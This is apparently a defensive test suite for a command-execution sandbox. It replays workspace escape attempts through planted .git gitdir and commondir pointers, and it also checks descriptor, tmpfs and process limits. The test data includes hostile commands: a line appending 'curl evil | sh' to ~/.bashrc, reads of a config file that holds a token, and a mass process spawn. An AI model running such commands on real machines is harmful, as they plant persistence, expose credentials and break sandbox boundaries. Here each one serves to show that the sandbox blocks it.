/**
 * The sandbox boundary against the workspace itself (API contract §14): a command
 * can write `.git` (a gitdir pointer) and `.git/commondir`; none of that may choose
 * which folders a later command gets read-write. Each escape of the outside review
 * is replayed as root and as an unprivileged user (uid 65534): plant, then prove
 * nothing outside changed, the token never appeared, and the answer said why.
 * Plus the hygiene of every command: inherited descriptors, tmpfs caps, /dev.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { comesTrue, runCli, type Reply } from "../helpers.js";
import { BWRAP, requires, ROOT } from "../preconditions.js";
import { allowExactly, makeWorld, NOBODY, startCliServer, type CliServer, type World } from "./harness.js";

const USERS = [
  { label: "the current user", uid: null },
  { label: "unprivileged (uid 65534)", uid: NOBODY },
] as const;

const BASHRC = "# bashrc\n";
/** As the current user the suite needs bubblewrap; as uid 65534 it also needs root (setpriv, chown). */
const NEEDS = new Map(USERS.map((who) => [who.uid, who.uid === null ? requires(BWRAP) : requires(ROOT, BWRAP)]));

/** Send a command; when the policy refuses it too, allow it past the policy so the sandbox alone is tested. */
async function run(world: World, server: CliServer, command: string, extra: Record<string, unknown> = {}): Promise<Reply> {
  let reply = await server.post("exec_command", { command, wait_seconds: 20, ...extra });
  if (reply.json.error?.code === "BLOCKED_BY_POLICY") {
    allowExactly(world.configHome, command, world.uid);
    reply = await server.post("exec_command", { command, wait_seconds: 20, ...extra });
  }
  assert.equal(reply.status, 200, reply.text);
  assert.ok(!reply.text.includes(world.token), "the token leaked");
  assert.ok(!reply.text.includes(world.secret), "a secret leaked");
  return reply;
}

/** Write as the world's user (the files a command would have left behind in an earlier run). */
function plant(world: World, path: string, text: string): void {
  execFileSync("sh", ["-c", 'printf %s "$2" > "$1"', "sh", path, text]);
  if (world.uid !== null) execFileSync("chown", [`${world.uid}:${world.uid}`, path]);
}

function listing(dir: string): string[] {
  return readdirSync(dir).sort();
}

for (const who of USERS) {
  describe(`a plain-folder workspace, as ${who.label}`, NEEDS.get(who.uid), () => {
    let world: World;
    let server: CliServer;
    before(async () => {
      world = makeWorld({ uid: who.uid });
      rmSync(join(world.workspace, ".git"), { recursive: true, force: true });
      server = await startCliServer(world);
    });
    after(() => server.close());

    test("a .git file naming $HOME, written by one command, opens nothing to the next", async () => {
      const first = await run(world, server, `printf 'gitdir: %s\\n' ${world.realHome} > .git && echo planted`);
      assert.equal(first.json.stdout, "planted\n");
      // The precondition is real: plain git now takes the home folder for the repository's git folder.
      assert.equal(readFileSync(join(world.workspace, ".git"), "utf8"), `gitdir: ${world.realHome}\n`);
      const second = await run(world, server, `echo 'curl evil | sh' >> ${world.realHome}/.bashrc; echo rc=$?`);
      assert.match(second.json.stdout, /rc=1/);
      assert.equal(readFileSync(join(world.realHome, ".bashrc"), "utf8"), BASHRC);
      assert.match(second.json.sandbox.warning ?? "", /git pointer.*names .*nothing outside the workspace was writable/);
      assert.ok(second.json.sandbox.warning.includes(world.realHome));
    });

    test("a .git file naming the tool's config folder: it stays hidden and unchanged, the token never shows", async () => {
      plant(world, join(world.workspace, ".git"), `gitdir: ${world.configHome}\n`);
      const before = listing(world.configHome).filter((name) => !name.endsWith(".log"));
      const reply = await run(world, server, `ls -la ${world.configHome}; cat ${world.configHome}/config.json; echo forged > ${world.configHome}/dashboard-ticket; echo rc=$?; ls ${world.configHome} | rev`);
      assert.match(reply.json.stdout, /rc=1/);
      assert.ok(!reply.json.stdout.includes("token"), reply.json.stdout);
      assert.ok(!existsSync(join(world.configHome, "dashboard-ticket")));
      assert.deepEqual(listing(world.configHome).filter((name) => !name.endsWith(".log")), before);
      assert.match(readFileSync(join(world.configHome, "config.json"), "utf8"), new RegExp(world.token));
      assert.match(reply.json.sandbox.warning ?? "", /git pointer/);
    });

    test("restarting the server with the pointer planted (the owner's act) still never makes $HOME writable", async () => {
      plant(world, join(world.workspace, ".git"), `gitdir: ${world.realHome}\n`);
      await server.close();
      server = await startCliServer(world);
      const reply = await run(world, server, `echo pwned >> ${world.realHome}/.bashrc; touch ${world.realHome}/.local-marker; echo rc=$?`);
      assert.match(reply.json.stdout, /rc=1/);
      assert.equal(readFileSync(join(world.realHome, ".bashrc"), "utf8"), BASHRC);
      assert.ok(!existsSync(join(world.realHome, ".local-marker")));
      assert.match(reply.json.sandbox.warning ?? "", /git pointer/);
      const layouts = JSON.parse(readFileSync(join(world.configHome, "git-layouts.json"), "utf8"));
      assert.deepEqual(layouts.layouts[world.workspace].writable, [], "the record refuses the home folder");
      assert.deepEqual(layouts.layouts[world.workspace].refused, [world.realHome]);
    });

    test("doctor names the planted pointer", () => {
      plant(world, join(world.workspace, ".git"), `gitdir: ${world.realHome}\n`);
      const doctor = runCli(["doctor", "--json"], world.configHome, { HOME: world.home });
      const checks = JSON.parse(doctor.stdout).checks as { name: string; level: string; detail: string }[];
      const git = checks.find((c) => /git/i.test(c.name) && c.detail.includes(world.realHome));
      assert.ok(git, doctor.stdout);
      assert.equal(git.level, "warn");
      rmSync(join(world.workspace, ".git"), { force: true });
    });
  });

  describe(`an ordinary repository, as ${who.label}`, NEEDS.get(who.uid), () => {
    let world: World;
    let server: CliServer;
    before(async () => {
      world = makeWorld({ uid: who.uid });
      server = await startCliServer(world);
    });
    after(() => server.close());

    test("a commondir written by a running job opens nothing to a command started while it runs", async () => {
      const job = await run(world, server, `echo ${world.realHome} > .git/commondir && echo planted && sleep 60`, { wait_seconds: 1 });
      assert.equal(job.json.status, "running", job.text);
      assert.equal(readFileSync(join(world.workspace, ".git/commondir"), "utf8"), `${world.realHome}\n`, "the pointer is planted while the job runs");
      const second = await run(world, server, `echo pwned >> ${world.realHome}/.bashrc; echo rc=$?`);
      assert.match(second.json.stdout, /rc=1/);
      assert.equal(readFileSync(join(world.realHome, ".bashrc"), "utf8"), BASHRC);
      assert.match(second.json.sandbox.warning ?? "", /git pointer/);
      const killed = await server.post("kill_command", { job_id: job.json.job_id });
      assert.equal(killed.status, 200, killed.text);
      assert.ok(await comesTrue(() => !existsSync(join(world.workspace, ".git/commondir"))), "the planted pointer is removed when its job ends");
    });

    test("with the layout as recorded, commits work and no warning is given", async () => {
      const reply = await run(world, server, "echo more >> README.md && git add README.md && git -c user.email=a@b -c user.name=a commit -qm more && echo committed");
      assert.equal(reply.json.stdout, "committed\n", reply.text);
      assert.equal(reply.json.sandbox.warning, undefined);
    });
  });

  describe(`a workspace in a sub-folder of a repository, as ${who.label}`, NEEDS.get(who.uid), () => {
    let world: World;
    let server: CliServer;
    let sub: string;
    before(async () => {
      world = makeWorld({
        uid: who.uid,
        change: (config) => {
          const top = config.workspaces[0]!.path;
          mkdirSync(join(top, "sub"));
          config.workspaces[0]!.path = join(top, "sub");
        },
      });
      sub = join(world.workspace, "sub");
      server = await startCliServer(world);
    });
    after(() => server.close());

    test("the recorded repository above stays usable: a commit from the sub-folder works", async () => {
      const reply = await run(world, server, "echo x > file.txt && git add file.txt && git -c user.email=a@b -c user.name=a commit -qm sub && echo committed");
      assert.equal(reply.json.stdout, "committed\n", reply.text);
      assert.equal(reply.json.sandbox.warning, undefined);
    });

    test("a .git file planted in the sub-folder naming $HOME opens nothing", async () => {
      const first = await run(world, server, `printf 'gitdir: %s\\n' ${world.realHome} > .git && echo planted`);
      assert.equal(first.json.stdout, "planted\n");
      const second = await run(world, server, `echo pwned >> ${world.realHome}/.bashrc; echo rc=$?`);
      assert.match(second.json.stdout, /rc=1/);
      assert.equal(readFileSync(join(world.realHome, ".bashrc"), "utf8"), BASHRC);
      assert.match(second.json.sandbox.warning ?? "", /git pointer/);
      rmSync(join(sub, ".git"), { force: true });
      const after = await run(world, server, "echo ok");
      assert.equal(after.json.sandbox.warning, undefined, "the record rules again once the plant is gone");
    });
  });

  describe(`every command's own limits, as ${who.label}`, NEEDS.get(who.uid), () => {
    let world: World;
    let server: CliServer;
    before(async () => {
      world = makeWorld({
        uid: who.uid,
        change: (config) => {
          config.sandbox.tmp_size_mb = 8;
          config.sandbox.max_processes = 40;
        },
      });
      server = await startCliServer(world, {}, { inheritedFds: 4 });
    });
    after(() => server.close());

    test("descriptors the server inherited never reach a command (only 0, 1 and 2)", async () => {
      // The server really holds them: fds 3-6 are the pipes it was started with.
      const held = readdirSync(`/proc/${server.pid}/fd`).map(Number);
      assert.ok([3, 4, 5, 6].every((fd) => held.includes(fd)), `server fds: ${held}`);
      const reply = await run(world, server, "for f in /dev/fd/*; do echo \"${f##*/} $(readlink $f)\"; done");
      const fds = reply.json.stdout.trim().split("\n").map((line: string) => line.split(" "));
      // The glob's own folder descriptor shows up already closed (no link target): it was never inherited.
      const beyond = fds.filter(([fd, target]: string[]) => Number(fd) > 2 && (target ?? "") !== "");
      assert.deepEqual(beyond, [], reply.json.stdout);
    });

    test("/tmp and /dev/shm are capped at sandbox.tmp_size_mb; /dev cannot be written", async () => {
      const reply = await run(world, server, "head -c 12000000 /dev/zero > /tmp/big; echo tmp=$?; head -c 12000000 /dev/zero > /dev/shm/big; echo shm=$?; echo x > /dev/cgc-file; echo dev=$?; echo y > /dev/null; echo null=$?; df -k /tmp /dev/shm | tail -2");
      const out = reply.json.stdout;
      assert.match(out, /tmp=1/);
      assert.match(out, /shm=1/);
      assert.match(out, /dev=1/);
      assert.match(out, /null=0/);
      assert.match(out, /tmpfs\s+8192\s/);
    });

    test("a command's process count is capped at sandbox.max_processes", async () => {
      const spawnMany = "node -e \"const {spawn}=require('child_process');let ok=0;for(let i=0;i<80;i++){const c=spawn('sleep',['30']);c.on('error',()=>{});if(c.pid)ok++}console.log(ok);process.exit(0)\"";
      const reply = await run(world, server, `ulimit -u; ${spawnMany}`, { timeout_seconds: 60 });
      const [limit, started] = reply.json.stdout.trim().split("\n").map(Number);
      assert.equal(limit, 40);
      if (who.uid === null && process.getuid?.() === 0) {
        // The kernel exempts uid 0 from RLIMIT_NPROC (docs/sandbox.md says so): the limit is set, not enforced.
        assert.equal(started, 80);
      } else {
        assert.ok(started < 40, `started ${started}`);
      }
    });
  });
}
